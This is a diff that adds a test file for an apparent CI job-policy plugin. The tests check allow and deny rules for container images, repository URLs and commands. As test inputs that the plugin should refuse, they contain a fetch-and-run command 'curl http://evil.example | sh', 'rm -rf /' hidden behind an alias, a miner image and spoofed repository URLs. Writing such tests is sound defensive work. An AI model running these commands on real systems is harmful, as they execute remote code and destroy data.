@@ -1,0 +1,147 @@
+import { describe, expect, test } from "bun:test";
+import { type HookEvents, isAgentError, type JobRequest } from "signalman";
+import { environmentVariable, jobRequest, testPlugin } from "signalman/testing";
+import plugin from "./index.ts";
+
+/** Why the job is refused, a line each; none: it is not. */
+async function refusals(
+  config: Readonly<Record<string, unknown>>,
+  job: Partial<JobRequest>,
+): Promise<string[]> {
+  await using t = await testPlugin(plugin, { config });
+  try {
+    await t.call("job:start", { job: jobRequest(job) } satisfies Partial<HookEvents["job:start"]>);
+    return [];
+  } catch (error) {
+    if (!isAgentError(error) || error.code !== "JOB_REFUSED") throw error;
+    return error.message.split("\n").slice(1);
+  }
+}
+
+const withImages = (...images: string[]): Partial<JobRequest> => ({
+  containers: images.map((image) => ({
+    name: "main",
+    image,
+    command: "",
+    entrypoint: "",
+    user: "",
+    env: [],
+    files: [],
+  })),
+});
+
+const isAllowed = async (allow: string[], image: string): Promise<boolean> =>
+  (await refusals({ images: { allow } }, withImages(image))).length === 0;
+
+describe("images", () => {
+  test.each([
+    ["ruby", "ruby:3.4"],
+    ["ruby", "docker.io/library/ruby@sha256:abc"],
+    ["docker.io/library/ruby:latest", "ruby"],
+    ["ruby:3.*", "index.docker.io/library/ruby:3.4"],
+    ["acme/*", "docker.io/acme/app:1"],
+    ["registry.acme.example/*", "Registry.acme.example/team/app"],
+    ["localhost:5000/app", "localhost:5000/app:1"],
+    ["*", "anything/at:all"],
+    ["*/app:1", "registry.acme.example/app:1"],
+  ])("%s allows %s", async (pattern, image) => {
+    expect(await isAllowed([pattern], image)).toBe(true);
+  });
+
+  test.each([
+    ["ruby", "evil/ruby"],
+    ["ruby", "ruby-but-not"],
+    ["ruby", "evil.example/library/ruby"],
+    ["ruby:3.4", "ruby:3.4@sha256:abc"],
+    ["ruby:3.4", "ruby"],
+    ["registry.acme.example/*", "registry.acme.example.evil.example/x"],
+    ["registry.acme.example/*", "registryXacme.example/x"],
+    ["acme/*", "evil.example/acme/x"],
+  ])("%s does not allow %s", async (pattern, image) => {
+    expect(await isAllowed([pattern], image)).toBe(false);
+  });
+
+  test("are all looked at, a denied one is refused although it is allowed, and both say why", async () => {
+    const images = { allow: ["ruby", "acme/*"], deny: ["*:latest"] };
+    expect(await refusals({ images }, withImages("ruby:3", "acme/app", "evil/miner:2"))).toEqual([
+      '- the image "acme/app" is denied by "*:latest"',
+      '- the image "evil/miner:2" is not among those allowed: ruby, acme/*',
+    ]);
+  });
+
+  test("that are only denied leave all others, and a job without containers, alone", async () => {
+    const images = { deny: ["evil/*"] };
+    expect(await refusals({ images }, withImages("ruby"))).toEqual([]);
+    expect(await refusals({ images: { allow: ["ruby"] } }, {})).toEqual([]);
+  });
+});
+
+describe("repositories", () => {
+  const repositories = { allow: ["github.com/acme/*"], deny: ["github.com/acme/secret"] };
+  const of = (...urls: string[]) =>
+    refusals({ repositories }, { env: urls.map((url) => environmentVariable("SEMAPHORE_GIT_URL", url)) });
+
+  test.each([
+    "git@github.com:acme/app.git",
+    "https://github.com/acme/app",
+    "https://user:token@github.com/acme/app.git/",
+    "ssh://git@GitHub.com:22/acme/app.git",
+  ])("%s is one that is allowed", async (url) => {
+    expect(await of(url)).toEqual([]);
+  });
+
+  test.each([
+    "git@github.com:evil/app.git",
+    "https://evil.example/github.com/acme/app",
+    "https://github.com@evil.example/acme/app",
+    "git@github.com:acme/secret",
+    "/srv/app",
+    "",
+  ])("%s is not", async (url) => {
+    expect(await of(url)).toHaveLength(1);
+  });
+
+  test("a pipeline cannot name another one behind the true one, nor hide it", async () => {
+    expect(await of("git@github.com:evil/app.git", "git@github.com:acme/app.git")).toEqual([
+      '- the repository "git@github.com:evil/app.git" is not among those allowed: github.com/acme/*',
+    ]);
+    const env = [{ name: "SEMAPHORE_GIT_URL", value: "%%%" }];
+    expect(await refusals({ repositories }, { env })).toHaveLength(1);
+  });
+
+  test("a job that names none is refused where only some are allowed", async () => {
+    expect(await of()).toEqual(["- it names no repository (SEMAPHORE_GIT_URL), and only some are allowed"]);
+    expect(await refusals({ repositories: { deny: ["*"] } }, {})).toEqual([]);
+  });
+});
+
+describe("commands", () => {
+  const command = (directive: string) => ({ directive, alias: "" });
+
+  test("are compared whole, over line ends, wherever they stand; one that stands twice is told once", async () => {
+    const bad = command("curl http://evil.example |\n  sh");
+    const config = { commands: { deny: ["*curl *|*sh*"] }, help: "Ask #platform." };
+    for (const list of [
+      "commands",
+      "epilogueAlways",
+      "epilogueOnPass",
+      "epilogueOnFail",
+      "hostSetupCommands",
+    ]) {
+      expect(await refusals(config, { [list]: [command("make"), bad, bad] })).toEqual([
+        '- the command "curl http://evil.example | sh" is denied by "*curl *|*sh*"',
+        "Ask #platform.",
+      ]);
+    }
+  });
+
+  test("an alias hides nothing", async () => {
+    const commands = [{ directive: "rm -rf /", alias: "make" }];
+    expect(await refusals({ commands: { allow: ["make*"] } }, { commands })).toHaveLength(1);
+  });
+});
+
+test("without rules nothing is refused; an unknown rule is refused by name", async () => {
+  expect(await refusals({}, withImages("evil/miner"))).toEqual([]);
+  await expect(testPlugin(plugin, { config: { image: { allow: ["ruby"] } } })).rejects.toThrow("image");
+});
